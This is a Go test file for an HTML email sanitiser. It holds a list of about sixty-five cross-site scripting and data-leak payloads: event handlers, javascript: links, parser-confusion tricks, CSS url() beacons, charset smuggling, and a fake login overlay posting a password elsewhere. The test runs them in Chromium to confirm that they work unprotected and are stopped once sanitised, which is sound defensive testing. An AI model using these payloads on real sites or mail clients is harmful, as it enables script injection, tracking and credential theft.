package original

import (
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	parse "golang.org/x/net/html"

	"tanggap/internal/browser"
)

// attack is a page that tries to act on who reads it. In it LEAK is an address that must not be called, and RUN a
// script that must not run.
type attack struct {
	name, body string
	head       string // fields of the mail, "" for a page in UTF-8
	leads      bool   // it takes its reader elsewhere, which no policy of a page forbids: only the sanitiser stops it
}

var attacks = []attack{
	{name: "a script", body: `<script>RUN</script>`},
	{name: "a script from elsewhere", body: `<script src="LEAK"></script>`},
	{name: "a script in capitals", body: `<ScRiPt>RUN</sCrIpT >`},
	{name: "a script within a script", body: `<scr<script>RUN</script>ipt>RUN</scr</script>ipt>`},
	{name: "a script that is not closed", body: `<script>RUN`},
	{name: "a tag that is not closed", body: `<img src="LEAK" onerror="RUN" `},
	{name: "an event", body: `<img src=x: onerror="RUN">`},
	{name: "an event after a slash", body: `<img/src="x:"/onerror=RUN>`},
	{name: "an event without spaces", body: `<img src="x:"onerror="RUN"alt="">`},
	{name: "an event of a body", body: `<body onload="RUN" background="LEAK">`},
	{name: "an event of focus", body: `<input autofocus onfocus="RUN">`},
	{name: "an event of a toggle", body: `<details open ontoggle="RUN">x</details>`},
	{name: "an event of an animation", body: `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationend="RUN">x`},
	{name: "an event of a marquee", body: `<marquee onstart="RUN">x</marquee>`},
	{name: "a link to a script", body: `<a href="javascript:RUN" ping="LEAK">klik</a>`},
	{name: "a link to a script, in entities", body: `<a href="jav&#x09;ascript&colon;RUN">klik</a><a href=" &#14; javascript:RUN">klik</a>`},
	{name: "a page in an address", body: `<iframe src="data:text/html,<script>RUN</script>"></iframe>`},
	{name: "a page in an attribute", body: `<iframe srcdoc="<script>RUN</script><img src='LEAK'>"></iframe>`},
	{name: "a frame", body: `<iframe src="LEAK"></iframe>`},
	{name: "a frame to a script", body: `<iframe src="javascript:RUN"></iframe>`},
	{name: "a frame set", body: `<frameset onload="RUN"><frame src="LEAK"></frameset>`},
	{name: "a drawing", body: `<svg onload="RUN"><image href="LEAK" xlink:href="LEAK"/></svg>`},
	{name: "a script in a drawing", body: `<svg><script>RUN</script><style>@import "LEAK"</style></svg>`},
	{name: "an animation in a drawing", body: `<svg><animate onbegin="RUN" attributeName=x dur=1s></svg><svg><a><set attributeName=href to="javascript:RUN"></a></svg>`},
	{name: "a page in a drawing", body: `<svg><foreignObject><iframe src="LEAK"></iframe><img src=x: onerror="RUN"></foreignObject></svg>`},
	{name: "a drawing as picture", body: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='LEAK'/></svg>">`},
	{name: "mathematics", body: `<math><mi xlink:href="javascript:RUN">x</mi><maction actiontype="statusline#LEAK">y</maction></math>`},
	{name: "parsed otherwise, in mathematics", body: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">`},
	{name: "parsed otherwise, in a drawing", body: `<svg></p><style><a id="</style><img src=x: onerror=RUN>">`},
	{name: "parsed otherwise, without scripts", body: `<noscript><p title="</noscript><img src=x: onerror=RUN>">`},
	{name: "parsed otherwise, in a form", body: `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>`},
	{name: "parsed otherwise, in a title", body: `<title><a title="</title><img src=x: onerror=RUN>">`},
	{name: "parsed otherwise, in a text field", body: `<textarea><a title="</textarea><img src=x: onerror=RUN>">`},
	{name: "parsed otherwise, in a choice", body: `<select><style></select><img src=x: onerror=RUN></style>`},
	{name: "parsed otherwise, in old elements", body: `<xmp><p title="</xmp><img src=x: onerror=RUN>"><noembed><p title="</noembed><img src=x: onerror=RUN>"><listing>&lt;img onerror=RUN src=x:&gt;</listing>`},
	{name: "in a comment", body: `<!--><img src=x: onerror=RUN>--><!--!><img src=x: onerror=RUN>--!><img src=x: onerror=RUN><!-->`},
	{name: "in a comment for one browser", body: `<!--[if IE]><script>RUN</script><![endif]--><![CDATA[<img src=x: onerror=RUN>]]><?xml <img src=x: onerror=RUN>?>`},
	{name: "a style sheet", body: `<style>@import url(LEAK);body{background:url(LEAK)}@font-face{font-family:f;src:url(LEAK)}*{font-family:f}</style>x`},
	{name: "a style sheet from elsewhere", body: `<link rel=stylesheet href="LEAK">`},
	{name: "a picture in a style", body: `<p style="background:url(LEAK)">x<p style="background-image:u\72l(LEAK)">x<p style="list-style:url('LEAK')">x<ul><li style="list-style-image:url(LEAK)">`},
	{name: "a picture in a style, hidden", body: `<p style="color:red;/**/background-color:url(LEAK)">x<p style="color:expression(RUN);-moz-binding:url(LEAK);behavior:url(LEAK)">x<p style="color:red}*{background:url(LEAK)">x`},
	{name: "a picture in a style, in entities", body: `<p style="background&#58;url&#40;LEAK&#41;;content:image-set('LEAK' 1x)">x`},
	{name: "a page over the page", body: `<div style="position:fixed;inset:0;z-index:9;background-color:#fff"><form action="LEAK" method=post><input name=password><button formaction="LEAK">Masuk</button></form></div>`},
	{name: "a form that sends itself", body: `<form id=f action="LEAK"><input type=image src="LEAK" formaction="LEAK"></form><script>document.getElementById('f').submit()</script>`},
	{name: "an address for everything", body: `<base href="LEAK/"><img src="x.png"><a href="y">z</a>`},
	{name: "a way elsewhere", leads: true, body: `<meta http-equiv="refresh" content="0;url=LEAK">`},
	{name: "a way elsewhere, to a script", body: `<meta http-equiv="refresh" content="0;url=javascript:RUN"><meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">`},
	{name: "a policy of its own", body: `<meta http-equiv="Content-Security-Policy" content="report-uri LEAK; img-src 'none'"><img src="LEAK">`},
	{name: "a picture from elsewhere", body: `<img src="LEAK" width=1 height=1><image src="LEAK"><img src='LEAK' loading=eager>`},
	{name: "pictures to choose from", body: `<picture><source srcset="LEAK 1x"><img srcset="LEAK 2x"></picture><img sizes=1px srcset="LEAK">`},
	{name: "a picture without a scheme", body: `<img src="//REST"><img src="\\REST"><img src="ht&#x0a;tp://REST">`},
	{name: "fetched before it is wanted", body: `<link rel=prefetch href="LEAK"><link rel=preload as=image href="LEAK"><link rel=preconnect href="LEAK"><link rel=dns-prefetch href="LEAK"><link rel=icon href="LEAK"><link rel=modulepreload href="LEAK"><link rel=manifest href="LEAK">`},
	{name: "an object", body: `<object data="LEAK"></object><object data="data:text/html,<script>RUN</script>"></object><embed src="LEAK"><applet code="LEAK" archive="LEAK"></applet>`},
	{name: "sound and film", body: `<video src="LEAK" poster="LEAK" onerror="RUN"></video><audio src="LEAK" onerror="RUN"></audio><video><source src="LEAK" onerror="RUN"><track default src="LEAK"></video>`},
	{name: "old attributes", body: `<table background="LEAK"><tr><td background="LEAK" dynsrc="LEAK" lowsrc="LEAK">x</td></tr></table><img longdesc="LEAK" usemap="#m"><blockquote cite="LEAK">x</blockquote>`},
	{name: "an element of its own", body: `<x-y onclick=RUN tabindex=0 style="position:fixed" is="x" contenteditable>x</x-y><dialog open><form action=LEAK></form></dialog>`},
	{name: "a page in a template", body: `<template shadowrootmode="open"><img src=x: onerror=RUN></template><div><template shadowrootmode=open><style>:host{background:url(LEAK)}</style></template></div>`},
	{name: "closed too often", body: `</div></body></html></iframe></details></style><script>RUN</script><img src=x: onerror=RUN>`},
	{name: "a tag in a tag", body: `<<img src=x: onerror=RUN>img src=x: onerror=RUN>><a <img src=x: onerror=RUN>>`},
	{name: "nested deeply", body: strings.Repeat("<div><b>", 200) + `<img src=x: onerror=RUN>`},
	{name: "a NUL in a tag", body: "<scr\x00ipt>RUN</scr\x00ipt><img src=x: one\x00rror=RUN><img src=x:\x00onerror=RUN>"},
	{name: "in UTF-7", head: "Content-Type: text/html; charset=utf-7\n", body: `+ADw-script+AD4-RUN+ADw-/script+AD4-+ADw-img src+AD0AIg-x:+ACI- onerror+AD0AIg-RUN+ACIAPg-`},
	{name: "in UTF-7, told by the page", body: `<meta charset="utf-7">+ADw-script+AD4-RUN+ADw-/script+AD4-`},
	{name: "in UTF-16", head: "Content-Type: text/html; charset=utf-16le\nContent-Transfer-Encoding: base64\n", body: `UTF16<script>RUN</script><img src=x: onerror=RUN>`},
	{name: "in a Japanese charset", head: "Content-Type: text/html; charset=iso-2022-jp\n", body: "<p title=\"\x1b$B\">\x1b(B<img src=x: onerror=RUN>\"><img alt=\"\x1b(J\\\" src=x: onerror=RUN>"},
	{name: "in letters too long", head: "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n", body: "\xc0\xbcscript\xc0\xbeRUN\xc0\xbc/script\xc0\xbe<img src=\"\xc0\" onerror=RUN \xc0>"},
	{name: "in base64", head: "Content-Type: text/html\nContent-Transfer-Encoding: base64\n", body: `BASE64<script>RUN</script><img src="LEAK" onerror=RUN>`},
	{name: "in plain text", head: "Content-Type: text/plain\n", body: `</div><script>RUN</script><img src="LEAK" onerror=RUN>`},
	{name: "in the header", head: "Subject: </title></style><script>RUN</script>\nFrom: \"<img src=x: onerror=RUN>\" <a@b.example>\nReceived: <script>RUN</script>\nContent-Type: text/html\n", body: `x`},
}

// page is the attack without its mail, as a site would serve it.
func (a *attack) page(leak, run string) string {
	return "<!doctype html>" + strings.NewReplacer("LEAK", leak, "REST", strings.TrimPrefix(leak, "http://"), "RUN", run).Replace(strings.TrimPrefix(strings.TrimPrefix(a.body, "BASE64"), "UTF16")) + "</div>"
}

func (a *attack) mail(leak, run string) string {
	body := a.page(leak, run)
	switch {
	case strings.HasPrefix(a.body, "UTF16"):
		var wide []byte
		for _, c := range []byte(body) {
			wide = append(wide, c, 0)
		}
		body = base64.StdEncoding.EncodeToString(wide)
	case strings.HasPrefix(a.body, "BASE64"):
		body = base64.StdEncoding.EncodeToString([]byte(body))
	}
	head := strings.ReplaceAll(a.head, "RUN", run)
	if head == "" {
		head = "Content-Type: text/html; charset=utf-8\n"
	}
	if !strings.Contains(head, "From:") {
		head = letterHead + head
	}
	return strings.ReplaceAll(head+"\n", "\n", "\r\n") + body
}

// harmless are the attributes that a page of a mail may have, and what may stand in them.
var harmless = map[string]*regexp.Regexp{
	"dir": nil, "lang": nil, "class": nil, "align": nil, "valign": nil, "width": nil, "height": nil, "border": nil, "cellpadding": nil,
	"cellspacing": nil, "colspan": nil, "rowspan": nil, "start": nil, "value": nil, "bgcolor": nil, "color": nil, "size": nil, "alt": nil,
	"src":   regexp.MustCompile(`^data:image/(png|jpeg);base64,[A-Za-z0-9+/=]+$`),
	"style": regexp.MustCompile(`^((color|background-color|text-align|font-weight|font-style|text-decoration): [#a-z0-9(),.% -]+(; |$))+$`),
}

// Elements that only our own page has, each once at most.
var ours = []string{"html", "head", "meta", "title", "style", "body", "dl", "dt", "dd", "details", "summary", "ol", "li", "p", "div", "span"}

func TestNothingOfAnAttackIsLeftInThePage(t *testing.T) {
	if len(attacks) < 40 {
		t.Fatalf("%d attacks", len(attacks))
	}
	for _, a := range attacks {
		page, h := shows(t, strings.ReplaceAll(a.mail("http://leak.example/x", "alert(1)"), "\r\n", "\n"))
		for _, name := range []string{"Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy"} {
			if h.Get(name) == "" {
				t.Errorf("%s: no %s", a.name, name)
			}
		}
		if h.Get("Content-Type") != "text/html; charset=utf-8" {
			t.Errorf("%s: %s", a.name, h.Get("Content-Type"))
		}
		root, err := parse.Parse(strings.NewReader(page))
		if err != nil {
			t.Fatal(err)
		}
		counts := map[string]int{}
		for n := range root.Descendants() {
			if n.Type == parse.CommentNode {
				t.Errorf("%s: a comment", a.name)
			}
			if n.Type != parse.ElementNode {
				continue
			}
			counts[n.Data]++
			if n.Namespace != "" || n.Data == "meta" && counts["meta"] > 3 || slices.Contains([]string{"style", "title"}, n.Data) && counts[n.Data] > 1 {
				t.Errorf("%s: an element %s more", a.name, n.Data)
			}
			if !slices.Contains(ours, n.Data) && !slices.Contains([]string{"b", "i", "br", "img", "table", "tbody", "tr", "td", "ul", "blockquote", "pre"}, n.Data) {
				t.Errorf("%s: an element %s", a.name, n.Data)
			}
			if n.Data == "meta" {
				continue
			}
			for _, at := range n.Attr {
				form, known := harmless[at.Key]
				if !known || form != nil && !form.MatchString(at.Val) {
					t.Errorf("%s: the attribute %s=%q", a.name, at.Key, at.Val)
				}
			}
		}
	}
}

var chromium browser.Browser

func TestMain(m *testing.M) {
	code := m.Run()
	chromium.Close()
	os.Exit(code)
}

// listener notes which attacks called home, and which ran.
type listener struct {
	mu    sync.Mutex
	heard map[string]bool
}

func (l *listener) note(what string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.heard[what] = true
}

func (l *listener) has(what string) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.heard[what]
}

// acted is how often the attack of a number was heard of from the pages of one kind.
func (l *listener) acted(kind string, i int) (called, ran bool) {
	return l.has(fmt.Sprintf("%s-%d", kind, i)), l.has(fmt.Sprintf("ran-%s-%d", kind, i))
}

// quiet is a test whose page may do what it must not.
type quiet struct{ testing.TB }

func (q quiet) Errorf(string, ...any) {}
func (q quiet) Failed() bool          { return false }

// TestNoAttackRunsOrCallsHome opens all attacks in Chromium: as they are, where they must be seen to work; as mails on
// a page of ours; and, as if the sanitiser had failed, as they are behind the policy and the frame alone.
func TestNoAttackRunsOrCallsHome(t *testing.T) {
	l := &listener{heard: map[string]bool{}}
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.note(strings.Split(strings.Trim(r.URL.Path, "/"), "/")[0])
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer elsewhere.Close()
	d := reader(t)
	mux := http.NewServeMux()
	mux.HandleFunc("GET /ran/{what}", func(_ http.ResponseWriter, r *http.Request) { l.note("ran-" + r.PathValue("what")) })
	mux.HandleFunc("GET /fence/{kind}", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<!doctype html><meta http-equiv=refresh content="0;url=/passed/%s">`, r.PathValue("kind"))
	})
	mux.HandleFunc("GET /passed/{kind}", func(_ http.ResponseWriter, r *http.Request) { l.note("passed-" + r.PathValue("kind")) })
	mux.HandleFunc("GET /all/{kind}", func(w http.ResponseWriter, r *http.Request) {
		kind := r.PathValue("kind")
		frame := `<iframe sandbox src="/one/%s/%d"></iframe>`
		if kind == "bare" {
			frame = `<iframe src="/one/%s/%d"></iframe>`
		}
		io.WriteString(w, `<!doctype html><meta charset=utf-8><title>t</title><link rel=icon href="data:,"><script>addEventListener("message", e => fetch("/ran/" + e.data))</script>`)
		for i := range attacks {
			fmt.Fprintf(w, frame, kind, i)
		}
		fmt.Fprintf(w, `<iframe src="/fence/%s"></iframe>`, kind)
	})
	mux.HandleFunc("GET /one/{kind}/{i}", func(w http.ResponseWriter, r *http.Request) {
		kind, i := r.PathValue("kind"), 0
		fmt.Sscan(r.PathValue("i"), &i)
		leak := fmt.Sprintf("%s/%s-%d", elsewhere.URL, kind, i)
		run := fmt.Sprintf("top.postMessage(`%s-%d`,`*`)", kind, i)
		switch kind {
		case "mail":
			d.Show(w, r, []byte(attacks[i].mail(leak, run)))
			return
		case "policy":
			for name, value := range headers {
				w.Header().Set(name, value)
			}
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, attacks[i].page(leak, run))
	})
	ours := httptest.NewServer(mux)
	defer ours.Close()

	for _, kind := range []string{"bare", "mail", "policy"} {
		var tb testing.TB = quiet{t}
		if kind == "mail" {
			tb = t // and so nothing that the browser refuses is in a page of ours
		}
		p := chromium.Page(tb, ours.URL, browser.Options{})
		p.Open("/all/" + kind)
		for began := time.Now(); !l.has("passed-" + kind); time.Sleep(10 * time.Millisecond) {
			if time.Since(began) > time.Minute {
				t.Fatal("the page does not come to its end")
			}
		}
	}
	worked := 0
	for i, a := range attacks {
		if called, ran := l.acted("bare", i); called || ran {
			worked++
		} else {
			t.Logf("harmless in this browser: %s", a.name)
		}
		if called, ran := l.acted("mail", i); called || ran {
			t.Errorf("%s: called home %v, ran %v", a.name, called, ran)
		}
		if called, ran := l.acted("policy", i); called && !a.leads || ran {
			t.Errorf("%s, behind the policy alone: called home %v, ran %v", a.name, called, ran)
		}
	}
	if worked < 40 {
		t.Errorf("%d of %d attacks work where nothing stops them: the test sees nothing", worked, len(attacks))
	}
}
